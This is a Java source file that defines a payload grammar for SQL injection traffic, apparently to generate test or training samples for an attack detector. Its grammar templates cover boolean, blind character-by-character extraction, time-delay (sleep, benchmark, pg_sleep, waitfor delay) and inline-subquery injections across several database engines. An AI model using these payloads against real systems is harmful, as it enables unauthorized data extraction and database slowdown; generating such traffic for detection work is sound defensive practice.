package ai.kongguard.traffic.attack;

import ai.kongguard.traffic.attack.grammar.Grammar;
import java.util.List;

/** Asking the database questions whose answer shows in the page, in its delay, or in nothing but a difference. */
final class SqlInference {

    private static final Grammar GRAMMAR = SqlWords.GRAMMAR.extend(
            """
            boolean ::=
              6×«out» «op» «truth»«?«sp»«end»»
              2×«out» «op» («truth»)«end»
              3×«before»«k:='¦"»«1..3×)» «op» «1..2×(»«=k»«x:=letters 1..5»«=k»=«=k»«=x»
              4×«before»«k:='¦"» «op» «=k»«x:=«letters 1..5»¦«1..9999»»«=k»=«=k»«=x»
              2×«before»«k:='¦"» «op» «=k»«letters 1..5»«=k» «like¦=¦in (¦<>¦between «=k»a«=k» and¦rlike¦regexp» «=k»«letters 1..4»
              «before»«k:='¦"¦»«||¦&&¦|¦^¦ xor ¦ or ¦ and »«=k»«x:=1..99»«=k»«=¦ like ¦<=>»«=k»«=x»
              «before»«')¦")¦)¦'» «op» «truth» «op» («k:='¦"»«x:=letters 2..4»«=k»=«=k»«=x»
              «before»«quote»/**/«op»/**/«truth»«end»
              «before» «op» «truth»«?«sp»«op» «truth»»
              «before»«quote» «op» not «truth» «end»
              «before»%«' ¦") ¦') »«op» «truth» «op» '%'='
              «before»«quote» «op» «t:=1..9999»=«=t» «op» «column» like '%«letters 1..3»
              «1..99»«-¦+¦*¦/¦%¦ div ¦ mod »«truth»
              «before»'«=¦<¦>¦*¦+¦-¦^¦/»'«?«letters 1..3»»
              («before»)«op»(«truth»)
              «before»«quote» «op» «0..9»«||¦&&»«truth»«end»
            blind ::=
              3×«out» and «ascii¦ord»(«substring¦substr¦mid»((«select»),«1..40»,1))«>¦<¦=¦!=¦ between 32 and »«32..126»«end»
              2×«out» and «substring¦substr¦left¦right¦mid»(«secret»,«1..9»«?,1»)='«alnum 1..1»'«end»
              «out» and «length¦len¦char_length¦octet_length»(««secret»¦(«select»)»)«>¦=¦<»«1..40»«end»
              «out» and (select «1..9» from «table» where «column»='«user»' and «ascii¦length»(«column»)>«1..126»)=«1..9»«end»
              «out» and («select») «like¦regexp¦rlike¦=» '«^¦%¦»«letters 1..4»%'«end»
              «out» «rlike¦and¦or» (select (case when («truth») then ««n»¦«str»» else «0x28¦1/0¦«n»» end))«end»
              «out» and exists(select «*¦1¦«column»¦null» from «table» «where»)«end»
              «out» and if(«ascii(mid(«secret»,«1..9»,1))>«32..126»¦«truth»»,«1..9»,«0..9»)«end»
              «out» and make_set(«truth»,«n»)«end»
              «out» and elt(«truth»,«n»)«end»
              «out» and (select count(*) from «all_users t1,all_users t2¦«table»»)>«0..99»«end»
              «out» and unicode(substring((«select»),«1..9»,1))>«32..126»«end»
              «out» and iif(«truth»,«1..9»,«0..9»)=«1..9»«end»
              «out» and nullif(ascii(substr((«select»),«1..9»,1)),«32..126») is null«end»
            time ::=
              4×«out» «op» sleep(«secs»)«end»
              3×«out» «op» (select «1..9999» from (select(sleep(«secs»)))«alnum 1..4»)«end»
              «out» «op» if(««truth»¦ascii(mid(«secret»,1,1))>«32..126»»,sleep(«secs»),«0..9»)«end»
              2×«out» «op» benchmark(«1..50»000000,«md5¦sha1¦encode»(««1..9»¦«str»»«?,'a'»))«end»
              «before»«quote»«-¦+¦*¦^¦|| ¦xor »«(select*from(select(sleep(«secs»)))a)¦sleep(«secs»)»«end»
              «before»'=sleep(«secs»)='
              «before»'xor(if(now()=sysdate(),sleep(«secs»),0))xor'«letters 0..2»
              «before»"xor(if(now()=sysdate(),sleep(«secs»),0))xor"z
              (select(0)from(select(sleep(«secs»)))v)/*'+(select(0)from(select(sleep(«secs»)))v)+'"+(select(0)from(select(sleep(«secs»)))v)+"*/
              3×«out»«;¦; ¦»«waitfor delay '0:0:«secs»'¦waitfor delay '00:00:«10..30»'¦if(«truth») waitfor delay '0:0:«secs»'»«end»
              2×«out»«;¦; »select «pg_sleep(«secs»)¦case when («truth») then pg_sleep(«secs») else pg_sleep(0) end»«end»
              2×«out» «op» «1..9999»=(select «1..9999» from pg_sleep(«secs»))«end»
              «out»||pg_sleep(«secs»)«end»
              «before»'||(select 1 from (select pg_sleep(«secs»))x)||'
              2×«out» «op» «n»=dbms_pipe.receive_message(«str»,«secs»)«end»
              «out» «op» «n»=(select count(*) from all_users t1,all_users t2,all_users t3,all_users t4)«end»
              «out»; begin dbms_«lock.sleep¦session.sleep»(«secs»); end;«end»
              «out» «op» «n»=like('abcdefg',upper(hex(randomblob(«100..900»000000/2))))«end»
              «out» «op» (select count(*) from generate_series(1,«1..9»000000))>0«end»
              «out» «op» (select count(*) from sysusers as sys1,sysusers as sys2,sysusers as sys3)>0«end»
              «sleep¦benchmark¦pg_sleep»(«secs»)«#¦--¦»«?«@mix «letters 1..3»»»
              «before»«quote» procedure analyse(extractvalue(«n»,concat(«mark»,benchmark(5000000,md5(1)))),1)«end»
              «before»«quote» order by sleep(«secs»)«end»
              «before»«quote» and «n»=rlike sleep(«secs»)«end»
            inline ::=
              (select «1..9999» where «truth»)
              (select (case when («truth») then «1..99» else «1..99» end))
              (select «n» from(select count(*),concat(«mark»,(«select»),«mark»,floor(rand(0)*2))x from «table» group by x)a)
              («select»)
              case when «truth» then «n» else «n» end
              if(«truth»,«n»,(«select»))
              «n»+(«select»)
              «n»*(case when «truth» then 1 else 0 end)
              (select «concat¦char»(«n»,«n»))
              «n»-if(«truth»,0,1)
              '+(select «n» from «table» «one»)+'
              '||(select «str» from «table» where «truth»)||'
              «column»,(«select»)
              (select «n» from dual where «truth»)
              cast((«select») as «int¦numeric¦signed»)
              iif(«truth»,«n»,1/0)
              (select * from (select(«secret»))a)
              elt(«truth»,«n»)
              -(«select»)-
            """);

    static final List<AttackFamily> FAMILIES = List.of(
            SqlInjection.family(GRAMMAR, "sql_boolean", "boolean"),
            SqlInjection.family(GRAMMAR, "sql_blind", "blind"),
            SqlInjection.family(GRAMMAR, "sql_time", "time"),
            SqlInjection.family(GRAMMAR, "sql_inline", "inline"));

    private SqlInference() {}
}
